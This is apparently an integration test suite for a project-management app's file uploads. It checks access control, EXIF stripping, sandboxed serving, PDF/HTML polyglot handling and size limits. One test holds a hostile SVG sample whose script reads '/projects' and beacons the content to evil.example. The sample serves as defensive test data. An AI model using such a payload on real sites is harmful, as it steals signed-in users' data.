/**
 * Uploads (issue 8, decision 012) against the production server over HTTP, signed in as the demo
 * users: evidence is stored for members who may add it and refused for the others; an SVG with a
 * script, text named .jpg and oversized files are refused; what is served carries no EXIF, runs
 * nothing (a sandboxed document in Chromium, a PDF downloaded, never shown) and stays in its project.
 */
import sharp from "sharp";
import type { Browser, BrowserContext } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { StoredFileInfo } from "../../app/files/file-types";
import { demoPassword, launchBrowser } from "../e2e/support/browser";
import { startApp, type RunningApp } from "../e2e/support/server";
import { sendBody } from "./support/send-body";

/** An item of the demo checklist (db/seed-demo-homes.ts). */
const itemKey = "fireAlarmSuited";
const megabyte = 1024 * 1024;

let app: RunningApp;
let projectId: string;
let otherProjectId: string;
let browser: Browser;
const cookies = new Map<string, string>();
let photoWithGps: Buffer;

async function post(path: string, body: URLSearchParams | FormData, as?: string): Promise<Response> {
  return fetch(`${app.url}${path}`, {
    method: "POST",
    redirect: "manual",
    headers: { Origin: app.url, ...(as ? { Cookie: cookies.get(as)! } : {}) },
    body,
  });
}

async function signIn(username: string): Promise<string> {
  const response = await post("/login", new URLSearchParams({ username, password: demoPassword, redirectTo: "/projects" }));
  expect(response.status).toBe(302);
  return (response.headers.get("set-cookie") ?? "").split(";")[0];
}

function upload(as: string, fields: Record<string, string>, file: { bytes: Uint8Array; name: string; type: string }, project = projectId): Promise<Response> {
  const body = new FormData();
  for (const [key, value] of Object.entries({ purpose: "checklist", subjectKey: itemKey, homeId: "", ...fields })) body.set(key, value);
  body.set("file", new File([new Uint8Array(file.bytes)], file.name, { type: file.type }));
  return post(`/projects/${project}/files`, body, as);
}

function get(as: string, path: string): Promise<Response> {
  return fetch(`${app.url}${path}`, { redirect: "manual", headers: { Cookie: cookies.get(as)! } });
}

async function stored(response: Response): Promise<StoredFileInfo> {
  expect(response.status, await response.clone().text()).toBe(201);
  return ((await response.json()) as { file: StoredFileInfo }).file;
}

/** A multipart body's start up to the file's bytes, for bodies sent as a stream. */
function multipartStart(boundary: string, fields: Record<string, string>, fileName: string): string {
  const parts = Object.entries(fields).map(([name, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`);
  return `${parts.join("")}--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: image/jpeg\r\n\r\n`;
}

beforeAll(async () => {
  [app, browser] = await Promise.all([startApp({ seedDemo: true }), launchBrowser()]);
  projectId = app.demoProjectId!;
  for (const username of ["kari", "jonas", "ola"]) cookies.set(username, await signIn(username));
  const signup = await post("/signup", new URLSearchParams({ name: "Utenfor", username: `utenfor${Date.now().toString(36)}`, email: "", password: "passord-123" }));
  expect(signup.status).toBe(302);
  cookies.set("stranger", (signup.headers.get("set-cookie") ?? "").split(";")[0]);
  // A second project of Kari's, without a checklist file of its own.
  const created = await post("/projects/new", new URLSearchParams({ name: "Bakken", municipality: "Lillestrøm", housingForm: "smahus", homeCount: "2", description: "" }), "kari");
  expect(created.status).toBe(302);
  otherProjectId = /\/projects\/([^/?#]+)/.exec(created.headers.get("location") ?? "")![1];
  photoWithGps = await sharp({ create: { width: 2400, height: 1800, channels: 3, background: "#4a6a8a" } })
    .jpeg()
    .withExif({ IFD0: { Make: "TestCam" }, IFD3: { GPSLatitudeRef: "N", GPSLatitude: "59/1 57/1 30/1", GPSLongitudeRef: "E", GPSLongitude: "10/1 57/1 0/1" } })
    .toBuffer();
});
afterAll(async () => {
  await browser?.close();
  await app?.stop();
});

describe("uploads against the production server", () => {
  it("a planner's photo is stored (201) and served as a JPEG without EXIF, inline, sandboxed and private", async () => {
    const file = await stored(await upload("jonas", { caption: "Røykvarsler i gangen", keepPosition: "on" }, { bytes: photoWithGps, name: "IMG_0042.jpg", type: "image/jpeg" }));
    expect(file).toMatchObject({ kind: "image", width: 1600, height: 1200, uploadedRole: "planner" });
    expect(file.latitude).toBeCloseTo(59.958333, 5);

    const served = await get("ola", `/projects/${projectId}/files/${file.id}`);
    expect(served.status).toBe(200);
    expect(served.headers.get("content-type")).toBe("image/jpeg");
    expect(served.headers.get("content-disposition")).toMatch(/^inline; filename="IMG_0042.jpg"; filename\*=UTF-8''IMG_0042.jpg$/);
    expect(served.headers.get("x-content-type-options")).toMatch(/^nosniff/);
    expect(served.headers.get("content-security-policy")).toContain("sandbox; default-src 'none'");
    expect(served.headers.get("cache-control")).toBe("private, max-age=3600");
    expect(served.headers.get("cross-origin-resource-policy")).toBe("same-origin");
    const bytes = Buffer.from(await served.arrayBuffer());
    const metadata = await sharp(bytes).metadata();
    expect(metadata.exif).toBeUndefined();
    expect(metadata.width).toBe(1600);
    expect(bytes.includes("TestCam")).toBe(false);
    const thumbnail = await get("ola", `/projects/${projectId}/files/${file.id}?size=thumb`);
    expect((await sharp(Buffer.from(await thumbnail.arrayBuffer())).metadata()).width).toBe(320);
  });

  it("an observer is refused (403), a non-member gets the project's 404, a signed-out request goes to sign-in", async () => {
    const photo = { bytes: photoWithGps, name: "IMG_1.jpg", type: "image/jpeg" };
    const observer = await upload("ola", {}, photo);
    expect(observer.status).toBe(403);
    expect(((await observer.json()) as { error: { code: string } }).error.code).toBe("forbidden");
    expect((await upload("stranger", {}, photo)).status).toBe(404);
    const body = new FormData();
    body.set("purpose", "checklist");
    const signedOut = await post(`/projects/${projectId}/files`, body);
    expect(signedOut.status).toBe(302);
    expect(signedOut.headers.get("location")).toMatch(/^\/login/);
  });

  it("an SVG with a script and text named photo.jpg are refused (415) with the accepted kinds named", async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/projects").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></svg>';
    for (const file of [
      { bytes: new TextEncoder().encode(svg), name: "tegning.svg", type: "image/svg+xml" },
      { bytes: new TextEncoder().encode(svg), name: "photo.jpg", type: "image/jpeg" },
      { bytes: new TextEncoder().encode("just text"), name: "photo.jpg", type: "image/jpeg" },
    ]) {
      const response = await upload("jonas", {}, file);
      expect(response.status, file.name).toBe(415);
      const { error } = (await response.json()) as { error: { message: string; messageEn: string } };
      expect(error.message).toContain("JPEG, PNG eller WebP");
      expect(error.messageEn).toContain("JPEG, PNG or WebP");
    }
  });

  it("a PDF, even one that is also HTML, is served as a download with the sandbox and nosniff, and Chromium never shows it", async () => {
    const polyglot = new TextEncoder().encode("%PDF-1.4\n<html><body><script>document.title='ran'</script></body></html>\n%%EOF\n");
    const file = await stored(await upload("jonas", {}, { bytes: polyglot, name: "Brannrapport æøå.pdf", type: "text/html" }));
    expect(file).toMatchObject({ kind: "pdf", contentType: "application/pdf" });
    const path = `/projects/${projectId}/files/${file.id}`;
    const served = await get("ola", path);
    expect(served.headers.get("content-type")).toBe("application/pdf");
    expect(served.headers.get("content-disposition")).toBe("attachment; filename=\"Brannrapport ___.pdf\"; filename*=UTF-8''Brannrapport%20%C3%A6%C3%B8%C3%A5.pdf");
    expect(served.headers.get("content-security-policy")).toContain("sandbox; default-src 'none'");
    expect(served.headers.get("x-content-type-options")).toMatch(/^nosniff/);

    const context = await signedInContext("ola");
    const page = await context.newPage();
    const download = page.waitForEvent("download");
    await page.goto(path).catch(() => {}); // "Download is starting": nothing is rendered
    expect((await download).suggestedFilename()).toBe("Brannrapport æøå.pdf");
    expect(await page.title()).not.toBe("ran");
    await context.close();
  });

  it("a served image opens in Chromium as a sandboxed document with no access to the app's cookies", async () => {
    const file = await stored(await upload("jonas", {}, { bytes: photoWithGps, name: "bilde.jpg", type: "image/jpeg" }));
    const context = await signedInContext("ola");
    const page = await context.newPage();
    const response = await page.goto(`/projects/${projectId}/files/${file.id}`);
    expect(response?.status()).toBe(200);
    const origin = await page.evaluate(() => {
      try {
        void document.cookie;
        return `cookies readable at ${window.origin}`;
      } catch {
        return window.origin;
      }
    });
    expect(origin, "an opaque origin: the sandbox holds").toBe("null");
    await context.close();
  });

  it("a file of the demo project is not found through another project's URL, even for their owner", async () => {
    const file = await stored(await upload("kari", {}, { bytes: photoWithGps, name: "a.jpg", type: "image/jpeg" }));
    expect((await get("kari", `/projects/${projectId}/files/${file.id}`)).status).toBe(200);
    const elsewhere = await get("kari", `/projects/${otherProjectId}/files/${file.id}`);
    expect(elsewhere.status).toBe(404);
    expect(((await elsewhere.json()) as { error: { code: string } }).error.code).toBe("notFound");
    expect((await get("stranger", `/projects/${projectId}/files/${file.id}`)).status).toBe(404);
  });

  it("a file over 10 MB gets 413 with the files' message; a body over the upload cap gets the cap's 413 at once", async () => {
    const boundary = "----boplan-upload-test";
    const headers = { Origin: app.url, Cookie: cookies.get("jonas")!, "Content-Type": `multipart/form-data; boundary=${boundary}` };
    const fields = { purpose: "checklist", subjectKey: itemKey, homeId: "" };
    const overFile = await sendBody({
      url: `${app.url}/projects/${projectId}/files`,
      bytes: 11 * megabyte,
      headers,
      prefix: multipartStart(boundary, fields, "stor.jpg"),
      suffix: `\r\n--${boundary}--\r\n`,
      fill: 0xff,
    });
    expect(overFile.status).toBe(413);
    expect(JSON.parse(overFile.text)).toMatchObject({ error: { code: "tooLarge", message: expect.stringContaining("høyst 10 MB") } });

    const overCap = await sendBody({ url: `${app.url}/projects/${projectId}/files`, bytes: 40 * megabyte, headers, prefix: multipartStart(boundary, fields, "enorm.jpg") });
    expect(overCap.status).toBe(413);
    expect(overCap.sentBytes, "stopped long before the end").toBeLessThan(30 * megabyte);
  });
});

async function signedInContext(as: string): Promise<BrowserContext> {
  const context = await browser.newContext({ baseURL: app.url, acceptDownloads: true });
  const [name, value] = cookies.get(as)!.split("=");
  await context.addCookies([{ name, value, url: app.url }]);
  return context;
}
